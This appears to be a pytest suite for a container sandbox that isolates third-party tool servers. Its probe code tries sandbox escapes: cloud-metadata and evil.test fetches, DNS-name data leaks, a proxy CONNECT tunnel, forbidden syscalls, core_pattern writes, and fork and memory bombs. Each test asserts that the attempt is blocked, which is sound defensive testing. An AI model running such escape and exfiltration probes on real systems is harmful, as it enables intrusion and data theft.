"""Third-party servers in their cage, attacked from inside and looked at from outside."""

from __future__ import annotations

import ast
import asyncio
import json
import os
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from sandbox.cage import Cage, CagedServer, opened_cage
from sandbox.errors import CallTimedOut, Frozen, PathRefused, SessionBroken
from sandbox.thirdparty.environment import LIMITS
from tests.engine.foreign import BENIGN, PRELUDE, PROBE
from tests.sandbox.upstreams import HOST, Outside, outside, to_this_machine

pytestmark = pytest.mark.docker

WITH_CALLS = """
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    ctypes.set_errno(0)
    done = libc.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) for a in arguments))
    return "ok" if done >= 0 else errno.errorcode[ctypes.get_errno()]
def attempt(work):
    try:
        return repr(work())[:2000]
    except Exception as error:
        return type(error).__name__ + ": " + str(error)[:300]
"""


@pytest.fixture
def run(base_image: str) -> Callable[[Callable[[Cage], Awaitable[None]]], None]:
    """Runs a coroutine in a cage, and sees that nothing of it is left."""

    def running(work: Callable[[Cage], Awaitable[None]]) -> None:
        async def bounded() -> None:
            async with asyncio.timeout(240), opened_cage() as cage:
                await work(cage)
                await cage._containers.wait_drained()
                assert cage.leftovers() == ()

        asyncio.run(bounded())

    return running


@asynccontextmanager
async def probe(cage: Cage, *permissions: str, **more: Any) -> AsyncIterator[CagedServer]:
    async with cage.server(PROBE, permissions=permissions, **more) as server:
        await server.initialize()
        yield server


async def does(server: CagedServer, code: str) -> str:
    """What `got` is after this code ran inside."""
    outcome = await server.call("run", {"code": WITH_CALLS + code})
    return outcome.text


def test_a_plain_server_works_in_it(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with cage.server(
            BENIGN, permissions=["env:GIVEN"], vault={"GIVEN": "v-4711-4711", "OTHER": "no"}
        ) as server:
            await server.initialize()
            names = {tool.name for tool in (await server.list()).tools}
            assert {"get_echo", "add_note", "sum"} <= names
            assert (await server.call("get-echo", {"text": "hi"})).text == "hi"
            assert (await server.call("sum", {"a": 2, "b": 3})).structured == {"sum": 5}
            told = await server.call("get_environment", {"name": "GIVEN"})
            assert told.text == "[redacted]"
            assert (await server.call("get_environment", {"name": "OTHER"})).text == "[unset]"
            await server.stop()
            await server.stop()

    run(work)


def test_without_declared_hosts_there_is_no_network(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with probe(cage) as server:
            code = """
def tcp(*address):
    return attempt(lambda: socket.create_connection(address, 2))
def udp(address, family=socket.AF_INET):
    return attempt(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"q", (address, 53)))
got = [tcp("1.1.1.1", 443), tcp("172.17.0.1", 22), tcp("169.254.169.254", 80), tcp("10.0.0.1", 53),
       tcp("2606:4700::1", 443), udp("8.8.8.8"), udp("127.0.0.53"), 
       udp("ff02::fb", socket.AF_INET6), attempt(lambda: socket.getaddrinfo("example.org", 443)),
       attempt(lambda: socket.getaddrinfo("host.docker.internal", 443))]
interfaces = sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else []
routes = open("/proc/net/route").read().count("\\n")
got = repr((got, interfaces, routes))
"""
            told, interfaces, routes = ast.literal_eval(await does(server, code))
            assert all(
                "Error" in line or line.startswith("gaierror") for line in told[:6] + told[7:]
            )
            assert interfaces in (["lo"], ["lo", "tunl0"], [])
            assert routes == 1
            assert server.tunnels == []

    run(work)


def test_the_kernel_is_mostly_out_of_reach(run: Callable[..., None]) -> None:
    """Numbers are of x86-64 and, from 424 on, of all architectures."""

    async def work(cage: Cage) -> None:
        async with probe(cage) as server:
            code = """
got = {
    "io_uring_setup": call(425, 1, 0), "clone3": call(435, 0, 0), "open_tree": call(428, 0, 0, 0),
    "fsopen": call(430, 0, 0), "move_mount": call(429, 0, 0, 0, 0, 0),
    "pidfd_getfd": call(438, 0, 0, 0),
}
if os.uname().machine == "x86_64":
    got |= {
        "ptrace": call(101, 0, 0, 0, 0), "mount": call(165, 0, 0, 0, 0, 0),
        "umount": call(166, 0, 0),
        "unshare": call(272, 0x10000000), "setns": call(308, 0, 0), "bpf": call(321, 0, 0, 0),
        "keyctl": call(250, 0, 0, 0, 0, 0), "add_key": call(248, 0, 0, 0, 0, 0),
        "userfaultfd": call(323, 0), "perf_event_open": call(298, 0, 0, 0, 0, 0),
        "init_module": call(175, 0, 0, 0), "kexec_load": call(246, 0, 0, 0, 0),
        "process_vm_readv": call(310, 1, 0, 0, 0, 0, 0), "pivot_root": call(155, 0, 0),
        "chroot": call(161, 0), "mknod": call(133, 0, 0, 0), "personality": call(135, 8),
        "clone_newuser": call(56, 0x10000000 | 17, 0, 0, 0, 0),
        "open_by_handle_at": call(304, 0, 0, 0), "settimeofday": call(164, 0, 0),
        "reboot": call(169, 0, 0, 0, 0), "swapon": call(167, 0, 0),
        "memfd_create": call(319, 0, 0), "modify_ldt": call(154, 0, 0, 0), "acct": call(163, 0),
    }
for family in (16, 17, 38, 40, 31, 44):
    got["family " + str(family)] = attempt(lambda: socket.socket(family, socket.SOCK_RAW))
got["raw"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
wanted = ("Uid", "Gid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp")
got["status"] = [status[name].split()[0] for name in wanted]
import json
got = json.dumps(got)
"""
            told = json.loads(await does(server, code))
            status = told.pop("status")
            assert status == ["65534", "65534", *["0" * 16] * 2, "1", "2"]
            assert told.pop("io_uring_setup") == "ENOSYS"
            assert told.pop("clone3") == "ENOSYS"
            assert {name: how for name, how in told.items() if how != "EPERM"} == {
                name: how for name, how in told.items() if how.startswith("PermissionError")
            }

    run(work)


def test_the_file_system_is_read_only_small_and_without_our_things(
    run: Callable[..., None],
) -> None:
    async def work(cage: Cage) -> None:
        async with probe(cage) as server:
            code = """
def write(path, size=10):
    return attempt(lambda: open(path, "wb").write(b"x" * size))
def run_own(path):
    open(path, "w").write("#!/usr/bin/python3\\n")
    os.chmod(path, 0o755)
    return attempt(lambda: os.posix_spawn(path, [path], {}))
got = repr({
    "root": [write(p) for p in ("/x", "/etc/x", "/usr/x", "/opt/x", "/dev/x", "/proc/x", "/sys/x")],
    "own": [write("/tmp/x"), write(os.environ["HOME"] + "/x")],
    "exec": run_own("/tmp/e"),
    "large": [write("/tmp/l", 100_000_000), write(os.environ["HOME"] + "/l", 100_000_000)],
    "many": attempt(lambda: [open(f"/tmp/f{n}", "w").close() for n in range(10_000)]),
    "shm": write("/dev/shm/x"),
    "sockets": [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)],
    "environment": sorted(os.environ),
    "masked": [attempt(lambda: open(p, "rb").read(1)) for p in ("/proc/kcore", "/proc/timer_list")],
    "tune": attempt(lambda: open("/proc/sys/kernel/core_pattern", "w").write("|x")),
})
"""
            told = ast.literal_eval(await does(server, code))
            assert all("Error" in line for line in told["root"])
            assert told["own"] == ["10", "10"]
            assert all("No space left" in line for line in told["large"])
            assert "No space left" in told["many"]
            assert "PermissionError" in told["exec"]
            assert "Error" in told["shm"]
            assert told["sockets"] == []
            assert "Error" in told["tune"]
            assert all(line == "b''" or "Error" in line for line in told["masked"])
            ours = {"HOME", "HOSTNAME", "LANG", "LC_CTYPE", "NO_UPDATE_NOTIFIER", "PATH", "TMPDIR"}
            ours |= {"PYTHONDONTWRITEBYTECODE", "PYTHONUNBUFFERED", "UV_USE_IO_URING"}
            assert set(told["environment"]) <= ours

    run(work)


@pytest.mark.parametrize(
    "attack",
    [
        "import time\nwhile True: time.sleep(1)",
        "x = []\nwhile True: x.append(b'x' * 10_000_000)",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        "import sys\nwhile True: sys.stdout.write('y' * 65536)",
        "import sys\nwhile True: sys.stderr.write('y' * 65536)",
        "import os, signal\nfor n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nos.closerange(0, 3)\nimport time\ntime.sleep(600)",
    ],
    ids=["hang", "memory", "fork", "stdout", "stderr", "stubborn"],
)
def test_nothing_survives_its_stop(attack: str, run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with probe(cage, limits=replace(LIMITS, memory_mb=128)) as server:
            await server.list()
            with pytest.raises((CallTimedOut, SessionBroken)):
                await server.call("run", {"code": attack}, 2.0)
            await server.stop()
        assert cage.leftovers() == ()

    run(work)


def test_the_brake_stops_servers_and_exits_at_once(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with probe(cage, "network:api.test") as server:
            await server.list()
            assert len(cage.leftovers()) == 2
            cage.kill_switch.engage()
            await cage._containers.wait_drained()
            assert cage.leftovers() == ()
            with pytest.raises(Frozen):
                await server.call("run", {"code": "got = 1"})
        with pytest.raises(Frozen):
            async with probe(cage):
                pass

    run(work)


def test_paths_are_seen_as_granted_and_as_nothing_more(
    run: Callable[..., None], tmp_path: Path
) -> None:
    readable, writable = tmp_path / "ro", tmp_path / "rw"
    for place in (readable, writable):
        place.mkdir()
        place.chmod(0o777)
    (readable / "a").write_text("content")
    (tmp_path / "secret").write_text("secret")
    (readable / "out").symlink_to(tmp_path / "secret")
    for parent in (tmp_path, *tmp_path.parents):
        if parent.stat().st_uid == os.getuid() and parent != Path("/"):
            parent.chmod(parent.stat().st_mode | 0o055)

    async def work(cage: Cage) -> None:
        async with cage.server(
            BENIGN, permissions=[f"fs:{readable}:ro", f"fs:{writable}:rw"]
        ) as server:
            await server.initialize()

            async def read(path: str) -> str:
                return (await server.call("read_file", {"path": path})).text

            async def write(path: str) -> str:
                return (await server.call("write_file", {"path": path, "content": "new"})).text

            assert await read(f"{readable}/a") == "content"
            assert "Read-only" in await write(f"{readable}/a")
            assert "FileNotFound" in await read(f"{readable}/out")
            assert "FileNotFound" in await read(f"{tmp_path}/secret")
            assert await write(f"{writable}/b") == "3"

    run(work)
    assert (writable / "b").read_text() == "new"
    assert (readable / "a").read_text() == "content"


def test_a_path_that_became_a_link_is_not_mounted(run: Callable[..., None], tmp_path: Path) -> None:
    (tmp_path / "granted").symlink_to("/etc")

    async def work(cage: Cage) -> None:
        for path in (f"{tmp_path}/granted", "/etc", "/var/run/docker.sock", "/proc"):
            with pytest.raises(PathRefused):
                async with probe(cage, f"fs:{path}:ro"):
                    pass

    run(work)


FETCH = """
import ssl, urllib.request
context = ssl.create_default_context(cadata=CERTIFICATE)
def fetch(url, **proxies):
    handlers = [urllib.request.HTTPSHandler(context=context)]
    if proxies.get("direct"):
        handlers.append(urllib.request.ProxyHandler({}))
    return urllib.request.build_opener(*handlers).open(url, timeout=60).read().decode()
"""


async def fetches(server: CagedServer, outside: Outside, code: str) -> str:
    return await does(server, f"CERTIFICATE = {outside.certificate!r}\n{FETCH}\n{code}")


def test_a_declared_host_is_reached_with_and_without_a_proxy(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with outside() as api:
            target = f"{HOST}:{api.port}"
            async with probe(
                cage, f"network:{target}", private=target, resolve=to_this_machine
            ) as server:
                code = (
                    f"got = [fetch('https://{target}/'), fetch('https://{target}/', direct=True)]"
                )
                assert await fetches(server, api, code) == "['hello', 'hello']"
            assert [(t.host, t.port, t.refusal) for t in server.tunnels] == [
                (HOST, api.port, "")
            ] * 2
            assert all(tunnel.sent and tunnel.received for tunnel in server.tunnels)

    run(work)


def test_nothing_but_the_declared_host_is_reached(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        moved = b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/x\r\nContent-Length: 0\r\n\r\n"
        async with outside(moved) as api, outside() as other, outside(tls=False) as plain:
            target = f"{HOST}:{api.port}"
            async with probe(
                cage, f"network:{target}", private=target, resolve=to_this_machine
            ) as server:
                code = f"""
def raw(first, *lines):
    with socket.create_connection(("127.0.0.1", 3128), 60) as proxy:
        proxy.sendall(first)
        answer = proxy.recv(4096)
        for line in lines:
            proxy.sendall(line)
            answer += b"|" + proxy.recv(4096)
        return answer.decode("latin-1")
def fronted():
    with socket.create_connection(("{HOST}", {api.port}), 60) as connection:
        return context.wrap_socket(connection, server_hostname="evil.test").recv(1)
got = repr([
    attempt(lambda: fetch("https://evil.test/")),
    attempt(lambda: fetch("https://{HOST}:{other.port}/")),
    attempt(lambda: fetch("https://127.0.0.1:{other.port}/")),
    attempt(lambda: fetch("http://169.254.169.254/latest/meta-data/")),
    attempt(lambda: fetch("https://{target}/moved")),
    attempt(fronted),
    attempt(lambda: raw(b"CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", b"SSH-2.0-x\\r\\n")),
    attempt(lambda: raw(b"CONNECT 127.0.0.1:{plain.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")),
    attempt(lambda: raw(b"GET http://{HOST}:{plain.port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")),
    attempt(lambda: socket.create_connection(("172.17.0.1", {other.port}), 2)),
    attempt(lambda: socket.create_connection(("127.0.0.1", {other.port}), 2)),
    attempt(lambda: socket.getaddrinfo("evil.test", 443)),
])
"""
                told = ast.literal_eval(await fetches(server, api, code))
                assert all("403" in told[n] or "Forbidden" in told[n] for n in (0, 1, 3, 4, 7, 8))
                assert all("Error" in told[n] or "gaierror" in told[n] for n in (2, 5, 9, 10, 11))
                assert told[6].startswith("'HTTP/1.1 200")
                assert told[6].endswith("|'")
            assert len(api.heard) == 1
            assert other.heard == []
            assert plain.heard == []
            refused = [tunnel for tunnel in server.tunnels if tunnel.refusal]
            assert {tunnel.host for tunnel in refused} >= {"evil.test", "127.0.0.1", HOST}

    run(work)


def test_a_private_address_that_nobody_granted_is_not_reached(run: Callable[..., None]) -> None:
    async def work(cage: Cage) -> None:
        async with outside() as api:
            async with probe(cage, f"network:{HOST}:{api.port}", resolve=to_this_machine) as server:
                code = f"got = attempt(lambda: fetch('https://{HOST}:{api.port}/'))"
                assert "Error" in await fetches(server, api, code)
            assert api.heard == []
            assert "private address" in server.tunnels[0].reason

    run(work)


def test_names_are_asked_of_the_host_and_only_declared_ones(run: Callable[..., None]) -> None:
    asked: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["127.0.0.1"]

    async def work(cage: Cage) -> None:
        async with outside() as api:
            target = f"{HOST}:{api.port}"
            async with probe(cage, f"network:{target}", private=target, resolve=resolve) as server:
                code = f"""
attempt(lambda: socket.getaddrinfo("leak.evil.test", 443))
attempt(lambda: fetch("https://data-in-a-name.evil.test/"))
got = fetch("https://{target}/")
"""
                assert await fetches(server, api, code) == "hello"
            assert asked == [HOST]

    run(work)


def test_other_languages_of_starting_are_the_same(run: Callable[..., None]) -> None:
    """Threads, children and shells of a server are in its cage like itself."""

    async def work(cage: Cage) -> None:
        async with cage.server(
            PRELUDE
            + """
import subprocess, threading
@tool("get_all")
def get_all():
    code = "import socket; socket.create_connection(('1.1.1.1', 443), 2)"
    child = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    seen = []
    thread = threading.Thread(target=lambda: seen.append(os.getuid()))
    thread.start()
    thread.join()
    return text(json.dumps([child.returncode, "unreachable" in child.stderr, seen]))
serve()
"""
        ) as server:
            await server.initialize()
            assert json.loads((await server.call("get_all")).text) == [1, True, [65534]]

    run(work)
